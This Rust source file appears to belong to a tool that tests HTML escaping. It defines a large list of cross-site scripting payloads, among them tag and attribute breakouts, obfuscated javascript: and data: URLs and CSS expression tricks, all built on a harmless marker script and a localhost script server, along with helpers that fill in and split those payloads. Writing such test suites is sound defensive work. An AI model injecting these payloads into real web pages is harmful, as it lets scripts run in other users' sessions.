//! The payloads: texts that run a script at some position, if they are not escaped.

/// The script that marks the page in which it runs.
const MARK: &str = "top.mark(self)";

/// A page that marks itself from another origin.
const PAGE: &str = "<script>top.postMessage(1,`*`)</script>";

/// The payloads, in which `MARK` and `PAGE` are the scripts.
const PAYLOADS: &[&str] = &[
    // Elements.
    "<script>MARK</script>",
    "<img src=x: onerror=MARK>",
    "<svg onload=MARK>",
    "<svg/onload=MARK>",
    "<iframe srcdoc='PAGE'>",
    "<details open ontoggle=MARK>a",
    "<a href=javascript:MARK>a</a>",
    "&lt;script&gt;MARK&lt;/script&gt;",
    "script>MARK</script>",
    "cript>MARK</script>",
    "img src=x: onerror=MARK ",
    "vg onload=MARK ",
    "textarea><script>MARK</script>",
    "/textarea><script>MARK</script>",
    // The end of an attribute value or of a tag.
    "\"><script>MARK</script>",
    "'><script>MARK</script>",
    "><script>MARK</script>",
    "\"><img src=x: onerror=MARK>",
    "'><img src=x: onerror=MARK>",
    "\" onclick=\"MARK",
    "' onclick='MARK",
    "\" autofocus tabindex=1 onfocus=\"MARK",
    "' autofocus tabindex=1 onfocus='MARK",
    " onclick=MARK ",
    "a onclick=MARK b",
    "a\tonclick=MARK b",
    "a\nonclick=MARK b",
    "a\u{c}onclick=MARK b",
    "a\ronclick=MARK b",
    "a/onclick=MARK b",
    "onclick=MARK b",
    "onclick='MARK'",
    "x\" onerror=MARK b=\"",
    "x' onerror=MARK b='",
    "x onerror=MARK b=",
    // The end of an element.
    "</script><script>MARK</script>",
    "</SCRIPT ><script>MARK</script>",
    "ipt><script>MARK</script>",
    "</title><script>MARK</script>",
    "</textarea><script>MARK</script>",
    "</style><script>MARK</script>",
    "</noscript><script>MARK</script>",
    "</xmp><script>MARK</script>",
    "</iframe><script>MARK</script>",
    "</noembed><script>MARK</script>",
    "</template><script>MARK</script>",
    "</select><script>MARK</script>",
    "]]><script>MARK</script>",
    "</svg><script>MARK</script>",
    // The end of a comment.
    "--><script>MARK</script>",
    "--!><script>MARK</script>",
    "--></script><script>MARK</script>",
    "><img src=x: onerror=MARK>",
    "*/MARK;/*",
    "\nMARK;//",
    "\rMARK;//",
    "\u{2028}MARK;//",
    // Values and strings of scripts.
    "MARK",
    "1;MARK",
    ";MARK",
    "1,MARK",
    "(MARK)",
    " MARK",
    "\";MARK;//",
    "';MARK;//",
    "\\\";MARK;//",
    "\\';MARK;//",
    "\"+MARK+\"",
    "'+MARK+'",
    "`;MARK;//",
    "${MARK}",
    "`+MARK+`",
    "&quot;;MARK;//",
    "&#39;;MARK;//",
    "&apos;+MARK+&apos;",
    "%27);MARK;//",
    "%27+MARK+%27",
    "a/;MARK;/b",
    "]/;MARK;/[b",
    "a/+MARK+/b",
    "<!--<script>",
    "&quot;+MARK+&quot;",
    "self.constructor.constructor('MARK')()",
    "{\"imports\":{\"a\":\"data:text/javascript,top.postMessage(1,`*`)\"}}",
    "{\"imports\":{\"a\":\"//localhost:PORT/mark.js\"}}",
    // URLs.
    "javascript:MARK",
    "JaVaScRiPt:MARK",
    " javascript:MARK",
    "\u{1}javascript:MARK",
    "\njavascript:MARK",
    "java\tscript:MARK",
    "java\nscript:MARK",
    "java\rscript:MARK",
    "javascript\t:MARK",
    "javascript://%0aMARK",
    "javascript:%74op.mark(self)",
    "javascript:/*http://a*/MARK",
    "javascript&colon;MARK",
    "&#106;avascript:MARK",
    "java&Tab;script:MARK",
    "script:MARK",
    "%0aMARK",
    "javascript",
    "java\tscript",
    "data:text/html,PAGE",
    "DATA:text/html;charset=utf-8,PAGE",
    "data:text/javascript,MARK",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>PAGE</svg>",
    "//localhost:PORT/mark.js",
    "http://localhost:PORT/mark.js",
    "//localhost:PORT/",
    "PAGE",
    "0;url=data:text/html,PAGE",
    "0;url='data:text/html,PAGE'",
    "0,data:text/html,PAGE",
    "href",
    "x 1x, javascript:MARK 2x",
    // Style sheets.
    "expression(MARK)",
    "url(javascript:MARK)",
    "red;background:url(javascript:MARK)",
    "red}</style><script>MARK</script>",
    "</style ><img src=x: onerror=MARK>",
    "\\3c/style\\3e<script>MARK</script>",
];

/// Parts of payloads that no position runs in this browser: they are for others, and for style sheets.
const FOR_OTHERS: &[&str] =
    &["expression(", "url(javascript:", "\\3c/style", "x 1x, ", "<!--<script>"];

/// Reports whether the payload runs at some position of this browser, if it is not escaped.
pub(crate) fn runs(payload: &str) -> bool {
    payload != "href" && !FOR_OTHERS.iter().any(|part| payload.contains(part))
}

/// Returns the payload as it is written here, in one line.
pub(crate) fn written(index: usize) -> String {
    format!("{:?}", PAYLOADS[index])
}

/// Returns the payloads; `port` is that of the server from which a script may be loaded.
pub(crate) fn all(port: u16) -> Vec<String> {
    let text = |payload: &&str| {
        let text = payload.replace("MARK", MARK).replace("PAGE", PAGE);
        text.replace("PORT", &port.to_string())
    };
    PAYLOADS.iter().map(text).collect()
}

/// Returns the ways to split a text in two: at its middle, after its first character, and in
/// the middle of words that are meant to be recognised.
pub(crate) fn halves(text: &str) -> Vec<(String, String)> {
    let mut places = vec![text.len() / 2, 1];
    for (word, at) in
        [("javascript:", 4), ("javascript:", 10), ("</", 1), ("<s", 1), ("data:", 3), ("-->", 2)]
    {
        places.extend(text.find(word).map(|start| start + at));
    }
    places.sort_unstable();
    places.dedup();
    let place = |at: &usize| text.is_char_boundary(*at) && *at < text.len() && *at > 0;
    let split = |at: usize| (text[..at].to_owned(), text[at..].to_owned());
    places.into_iter().filter(place).map(split).collect()
}

#[cfg(test)]
mod tests {
    use super::{all, halves};

    #[test]
    fn payloads_are_many_and_different() {
        let mut payloads = all(1);
        let count = payloads.len();
        payloads.sort();
        payloads.dedup();
        assert_eq!(payloads.len(), count);
        assert!(count >= 60);
    }

    #[test]
    fn splits() {
        assert_eq!(halves("a"), []);
        assert!(halves("javascript:x").contains(&("java".to_owned(), "script:x".to_owned())));
        assert!(halves("\u{2028}").is_empty());
    }
}
